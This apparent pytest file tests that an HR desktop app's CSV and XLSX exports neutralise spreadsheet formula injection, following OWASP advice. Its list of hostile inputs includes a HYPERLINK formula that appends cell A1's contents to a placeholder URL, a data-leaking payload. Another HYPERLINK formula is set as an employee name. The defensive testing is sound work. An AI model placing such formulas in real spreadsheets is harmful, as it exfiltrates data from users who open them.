"""What we write is text where the user typed text: never a formula, and the same bytes each time."""

from __future__ import annotations

import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from asn_desktop.services import employees as emp
from asn_desktop.services import followup as fu
from asn_desktop.tabular.reading import read_table
from asn_desktop.tabular.writing import Sheet, csv_bytes, neutralise, write_xlsx, xlsx_bytes

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "+62 812",
    "-5",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "biasa",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_values_are_neutralised_as_owasp_advises(text: str) -> None:
    assert neutralise(text) == (text if text == "biasa" else f"'{text}")
    assert neutralise("a=b") == "a=b"


def test_xlsx_cells_are_strings_with_a_quote_prefix(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_xlsx(path, [Sheet("Data", ["nilai"], [[t] for t in HOSTILE] + [[3], [date(2026, 3, 14)]])])
    ws = load_workbook(path).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells[: len(HOSTILE)]] == HOSTILE
    assert {c.data_type for c in cells[: len(HOSTILE)]} == {"s"}
    assert [c.quotePrefix for c in cells[: len(HOSTILE)]] == [t != "biasa" for t in HOSTILE]
    assert cells[-2].value == 3
    with zipfile.ZipFile(path) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")


def test_same_data_same_bytes() -> None:
    sheets = [Sheet("Data", ["a", "b"], [["x", 1], ["=y", date(2026, 1, 2)]])]
    assert xlsx_bytes(sheets) == xlsx_bytes(sheets)
    assert csv_bytes(["a"], [["=x"]]) == "\ufeffa\r\n'=x\r\n".encode()


def test_follow_up_export_keeps_hostile_text_as_text(org, tmp_path: Path) -> None:
    """A follow-up titled ``=1+1`` for an employee named ``=HYPERLINK(…)``: both stay text."""
    from tests.unit.services.test_followup import _assessment

    emp.update_employee(
        org.admin,
        org.staff1,
        emp.EmployeeInput(
            nip="199001012015031003",
            name='=HYPERLINK("http://x.invalid","a")',
            unit_id=org.seksi,
            supervisor_id=org.kasi,
        ),
    )
    fu.add_follow_up(org.ctx["kasi"], assessment_id=_assessment(org), kind="pelatihan", title="=1+1")
    out = tmp_path / "tl.xlsx"
    fu.export_follow_ups_xlsx(org.admin, out)
    row = next(load_workbook(out).active.iter_rows(min_row=2))
    assert (row[1].value, row[1].data_type) == ('=HYPERLINK("http://x.invalid","a")', "s")
    assert (row[6].value, row[6].data_type) == ("=1+1", "s")
    table = read_table(out, max_rows=10)
    assert table.rows[0].values[6] == "=1+1"
